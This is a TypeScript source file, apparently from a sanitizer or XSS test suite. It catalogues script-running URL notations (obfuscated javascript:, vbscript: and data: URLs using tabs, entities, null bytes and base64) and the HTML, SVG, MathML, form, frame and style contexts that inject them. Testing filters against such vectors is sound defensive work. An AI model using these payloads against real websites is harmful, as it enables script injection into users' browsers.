import { asEntities, asPercents, base64, eachOf, type Markup, type VectorGroup } from './vector';

/** Notations of an address that runs code, each with `"` quotes around it. */
const NOTATIONS: Readonly<Record<string, Markup>> = {
  plain: 'javascript:RUN()',
  'in capitals': 'JAVASCRIPT:RUN()',
  'in mixed case': 'jAvAsCrIpT:RUN()',
  'with a tab': 'java\tscript:RUN()',
  'with a line break': 'java\nscript:RUN()',
  'with a carriage return': 'javascr\ript\r:RUN()',
  'with a named tab': 'java&Tab;script&Tab;:RUN()',
  'with a named line break': 'javascript&NewLine;:RUN()',
  'with a named colon': 'javascript&colon;RUN()',
  'with a numbered colon': 'javascript&#58RUN()',
  'with a numbered letter': '&#106;avascript:RUN()',
  'with a long number': '&#0000000106;avascript:RUN()',
  'with a hexadecimal number': '&#x6a;avascript:RUN()',
  'with a hexadecimal number without an end': 'j&#X61vascript:RUN()',
  'as references': ({ run }) => asEntities(`javascript:${run}`),
  'after spaces': ' \t\n javascript:RUN()',
  'after a control character': '\u0001javascript:RUN()',
  'after a numbered control character': '&#14;javascript:RUN()',
  'after a null character': '\u0000javascript:RUN()',
  'after a byte order mark': '\ufeffjavascript:RUN()',
  'with a host in a comment': 'javascript://example.com/%0aRUN()',
  'with a host in another comment': 'javascript:/*//example.com/*/RUN()',
  'with its code as percents': ({ run }) => `javascript:${asPercents(run)}`,
  'without a value': 'javascript:void(RUN())',
  'with a label': 'javascript:https://example.com/%0aRUN()',
  'with a fragment': 'javascript:RUN()//#example',
  'within a string': 'javascript:`${RUN()}`',
  'in another language': 'vbscript:RUN()',
  'in an old language': 'livescript:RUN()',
  'within a feed': 'feed:javascript:RUN()',
  'within a view of a source': 'view-source:javascript:RUN()',
  'of data': 'data:text/html,<script>RUN()</script>',
  'of data in base 64': ({ run }) => `data:text/html;base64,${base64(`<script>${run}</script>`)}`,
  'of data with a tab': 'da\tta:text/html,<script>RUN()</script>',
  'of data that is a picture':
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN()'/>",
};

function carry(before: string, after: string): Readonly<Record<string, Markup>> {
  return Object.fromEntries(
    Object.entries(NOTATIONS).map(([name, address]) => [
      name,
      (mark) => `${before}"${typeof address === 'function' ? address(mark) : address}"${after}`,
    ]),
  );
}

const PLACES: Readonly<Record<string, (address: string) => string>> = {
  area: (address) =>
    `<img usemap="#m" width=800 height=400><map name=m><area shape=default href="${address}"></map>`,
  'link of a picture': (address) =>
    `<svg width=800 height=400><a href="${address}"><rect width=800 height=400 /></a></svg>`,
  'old link of a picture': (address) =>
    `<svg width=800 height=400><a xlink:href="${address}"><rect width=800 height=400 /></a></svg>`,
  'link set in a picture': (address) =>
    `<svg width=800 height=400><a><set attributeName=href to="${address}"/><rect width=800 height=400 /></a></svg>`,
  'link animated in a picture': (address) =>
    `<svg width=800 height=400><a><animate attributeName=href values="${address}"/><rect width=800 height=400 /></a></svg>`,
  'link of a formula': (address) => `<math><mi href="${address}" FILL>x</mi></math>`,
  'old link of a formula': (address) => `<math xlink:href="${address}" FILL><mi>x</mi></math>`,
  'link with a target': (address) => `<a target=_self href="${address}" FILL>x</a>`,
  'link into a frame': (address) =>
    `<iframe name=t width=9 height=9></iframe><a target=t href="${address}" FILL>x</a>`,
  'link in a new window': (address) => `<a target=_blank href="${address}" FILL>x</a>`,
  'link by a base': (address) => `<base href="${address}"><a href="" FILL>x</a>`,
  'link without a role': (address) => `<a role=none ping=x href="${address}" FILL>x</a>`,
  form: (address) => `<form action="${address}"><button FILL>x</button></form>`,
  'form that posts': (address) =>
    `<form method=post action="${address}"><input type=submit FILL></form>`,
  button: (address) => `<form><button formaction="${address}" FILL>x</button></form>`,
  'button beside its form': (address) =>
    `<form id=f></form><button form=f formaction="${address}" FILL>x</button>`,
  'input of a form': (address) => `<form><input type=submit formaction="${address}" FILL></form>`,
  'image of a form': (address) =>
    `<form><input type=image src=x formaction="${address}" FILL></form>`,
  'frame of a set': (address) => `<frameset><frame src="${address}"></frameset>`,
  object: (address) => `<object data="${address}"></object>`,
  embed: (address) => `<embed src="${address}">`,
  image: (address) => `<img src="${address}" lowsrc="${address}" dynsrc="${address}">`,
  'input of an image': (address) => `<input type=image src="${address}">`,
  'script source': (address) => `<script src="${address}"></script>`,
  'style sheet': (address) => `<link rel=stylesheet href="${address}">`,
  background: (address) =>
    `<table background="${address}"><tr><td background="${address}">x</table>`,
  'style import': (address) => `<style>@import "${address}";</style>x`,
  'style image': (address) => `<p style="background:url('${address}')">x`,
};

export const SCRIPT_ADDRESSES: readonly VectorGroup[] = [
  { name: 'address of a link', vectors: carry('<a href=', ' FILL>x</a>') },
  { name: 'address of a frame', areContained: true, vectors: carry('<iframe src=', '></iframe>') },
  {
    name: 'address of code',
    vectors: eachOf({ plain: 'javascript:RUN()' }, PLACES),
  },
  {
    name: 'address of data',
    vectors: eachOf(
      { plain: 'data:text/html,<script>RUN()</script>' },
      Object.fromEntries(
        Object.entries(PLACES).filter(([name]) =>
          /^(?:area|link of a picture|link set|link into|form that|button$|frame|refresh)/u.test(
            name,
          ),
        ),
      ),
    ),
  },
];
